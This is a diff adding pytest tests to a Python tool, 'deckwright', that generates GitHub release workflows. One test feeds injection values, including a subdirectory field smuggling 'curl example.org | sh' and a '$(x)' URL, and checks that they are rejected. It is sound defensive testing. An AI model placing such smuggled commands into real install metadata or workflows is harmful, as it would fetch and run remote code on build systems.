@@ -17,6 +17,7 @@ import pytest
 import yaml
 
 from deckwright import __version__
+from deckwright.errors import DeckwrightError
 from deckwright.releases.github import REQUIREMENTS, WORKFLOW, add_workflow, choose, requirements, workflow
 from deckwright.releases.origin import LOCAL, origin
 from tests.conftest import ROOT, Result
@@ -222,6 +223,41 @@ def test_a_name_alone_is_never_pinned(
     assert cli("init", "--github", "--install", named, tmp_path / "deck", tmp_path / "notes.md").status == 0
     assert f'"{named}"' in (tmp_path / "deck" / WORKFLOW).read_text("utf-8")
     assert not (tmp_path / "deck" / WHEEL).exists()
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        {"url": "https://example.org/d", "vcs_info": GIT, "subdirectory": 'x" ; curl example.org | sh; "'},
+        {"url": "https://example.org/$(x)", "vcs_info": GIT},
+        {"url": "https://example.org/d", "vcs_info": GIT, "subdirectory": "'"},
+        {"url": "https://example.org/d", "vcs_info": GIT, "subdirectory": "a\nb"},
+        {"url": "https://example.org/d #", "archive_info": {"hash": f"sha256={SUM}"}},
+    ],
+)
+def test_what_an_installation_says_of_itself_is_no_command(
+    author: Author, monkeypatch: pytest.MonkeyPatch, said: object
+) -> None:
+    monkeypatch.setattr("deckwright.releases.github.installed", lambda: Record(said))
+    with pytest.raises(DeckwrightError, match="it is not known from where GitHub can install"):
+        choose(author.root)
+
+
+def test_a_requirement_with_a_sum_can_be_named(author: Author) -> None:
+    named = f"deckwright[anki] @ https://example.org/d.zip#sha256={SUM}&subdirectory=py"
+    assert choose(author.root, named).requirement == named
+
+
+def test_a_release_tells_that_github_installs_another_deckwright(author: Author) -> None:
+    install = choose(author.root)
+    add_workflow(author.root, install)
+    author.commit()
+    assert not [one for one in author.release("1.0.0").findings if one.code == "other-deckwright"]
+    [file] = install.files
+    (author.root / file).write_bytes(b"an older one")
+    author.commit()
+    [told] = [one for one in author.release("1.1.0", dry_run=True).findings if one.code == "other-deckwright"]
+    assert file in told.message and "init --github" in str(told.remedy)
 
 
 def test_the_wheel_that_is_kept_installs_and_runs(author: Author, tmp_path: Path) -> None:
